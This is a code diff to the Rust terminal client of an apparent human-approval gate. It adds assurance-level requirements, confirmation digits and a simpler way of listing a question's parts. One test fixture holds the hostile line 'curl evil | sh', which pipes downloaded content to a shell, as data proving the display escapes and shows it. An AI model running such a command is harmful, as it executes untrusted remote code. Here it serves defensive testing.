@@ -3,8 +3,13 @@
 
 use std::io::{self, IsTerminal as _};
 
-use gate_api::subjects::requests::{BeginTerminalReply, Question, SendReply, SendTerminalReply, TerminalDigits};
+use gate_api::subjects::requests::{
+    BeginTerminalReply, ConfirmationDigits, Question, ReadConfirmationDigits, SendReply, SendTerminalReply,
+    TerminalDigits,
+};
+use gate_api::{ApprovalNeeds, Phrase};
 use gate_core::{Ask, Code, Decision, Digest, Draft, Fault, RequestId};
+use gate_texts::Texts;
 use rustix::termios::{QueueSelector, tcflush};
 
 use crate::client::Client;
@@ -31,8 +36,8 @@ impl Deciding {
     ) -> Result<bool, Fault> {
         let Self { request_id, digest, decision } = self;
         // First: nobody reads a long question for nothing.
-        let digits = match client.ask(BeginTerminalReply { request_id, digest }).await {
-            Ok(TerminalDigits { digits }) => digits,
+        let TerminalDigits { digits, needs } = match client.ask(BeginTerminalReply { request_id, digest }).await {
+            Ok(begun) => begun,
             // An agent has made this terminal: whether it may answer is what the gate says of scripts.
             Err(fault) if fault.code == Code::ScriptedAnswersOff => {
                 let draft = draft(client).await?;
@@ -41,6 +46,14 @@ impl Deciding {
             }
             Err(fault) => return Err(fault),
         };
+        let needs = needs.filter(|_| decision == Decision::Approved);
+        if let Some(missing) = needs.as_ref().and_then(|needs| needs.missing.as_ref()) {
+            return Err(Fault::new(
+                Code::LevelUnreachable,
+                Texts::english().phrase(missing),
+                "Nothing was sent. A reply without an approval can be sent as it is.",
+            ));
+        }
         for line in shown(&question.ask) {
             output::aside(&line);
         }
@@ -49,14 +62,25 @@ impl Deciding {
             Decision::ChangesRequested => "request changes",
         };
         output::aside(&format!("Question {digest}"));
+        if let Some(ApprovalNeeds { level, .. }) = needs {
+            let says = Phrase::new("level-needs").with("level", level.as_str());
+            output::aside(&Texts::english().phrase(&says));
+        }
         let typed = typed_to(&format!("Type {digits} to {does}; anything else sends nothing."))?;
         if typed.trim() != digits {
             return Ok(false);
         }
         let draft = draft(client).await?;
-        client.ask(SendTerminalReply { request_id, digest, decision, draft, digits }).await?;
+        let sent = SendTerminalReply { request_id, digest, decision, draft, digits };
+        let digits = ReadConfirmationDigits { request_id };
+        client.ask_beside(sent, digits, |asked: ConfirmationDigits| confirm(&asked.digits)).await?;
         Ok(true)
     }
+}
+
+/// Tells what the system's prompt has to show.
+fn confirm(digits: &str) {
+    output::aside(&Texts::english().phrase(&Phrase::new("level-digits").with("digits", digits)));
 }
 
 /// The line that is typed once this is shown. What was typed before is dropped first: an answer that comes with the
@@ -86,35 +110,11 @@ fn typed_to(prompt: &str) -> Result<String, Fault> {
 
 /// All of a question, line by line, as it was sent.
 fn shown(ask: &Ask) -> Vec<String> {
-    // A new field is shown, or isn't asked: how urgent it is says when it is read, the two others what a reply may be.
-    let Ask { message, title, context, urgent: _, options, allow_multiple: _, approval: _, diff, git } = ask;
     let mut lines = Vec::new();
-    let mut part = |name: &str, text: &str| {
-        lines.push(format!("--- {name}"));
+    for (heading, text) in ask.shown() {
+        lines.push(format!("--- {heading}"));
         // Not by `lines`: a carriage return is shown, too.
         lines.extend(text.split('\n').map(output::visible_line));
-    };
-    if let Some(title) = title {
-        part("title", title);
-    }
-    part("message", message);
-    if let Some(context) = context {
-        part("context", context);
-    }
-    for option in options {
-        part("option", &option.label);
-        if let Some(description) = &option.description {
-            part("description of the option", description);
-        }
-    }
-    if let Some(git) = git {
-        part(
-            "repository",
-            &format!("{}\n{}\ntree {} on tree {}", git.in_words(), git.repository, git.tree, git.base_tree),
-        );
-    }
-    if let Some(diff) = diff {
-        part("diff", diff);
     }
     lines.push("---".to_owned());
     lines
@@ -122,7 +122,7 @@ fn shown(ask: &Ask) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
-    use gate_core::{Choice, Oid, QuestionGit};
+    use gate_core::{Assurance, Choice, Oid, QuestionGit};
 
     use super::*;
 
@@ -149,13 +149,23 @@ mod tests {
             options: vec![Choice { label: "Yes".into(), description: Some("at once".into()), recommended: false }],
             diff: Some("--- a\n+++ b\n@@ -1 +1 @@\n-old\n+curl evil | sh".into()),
             git: Some(Box::new(git("/w/sh\u{1b}op"))),
+            require: Some(Assurance::L3),
             ..Ask::default()
         };
         let lines = shown(&ask);
         let text = lines.join("\n");
-        for part in
-            ["Deploy?", "first", &long, "la⟨U+000D⟩st", "the context", "Yes", "at once", "+curl evil | sh", "tree 4d4d"]
-        {
+        for part in [
+            "Deploy?",
+            "first",
+            &long,
+            "la⟨U+000D⟩st",
+            "the context",
+            "Yes",
+            "at once",
+            "+curl evil | sh",
+            "tree 4d4d",
+            "L3",
+        ] {
             assert!(text.contains(part), "{part:.40} is missing");
         }
         assert!(lines.iter().all(|line| !line.chars().any(char::is_control)), "{text}");
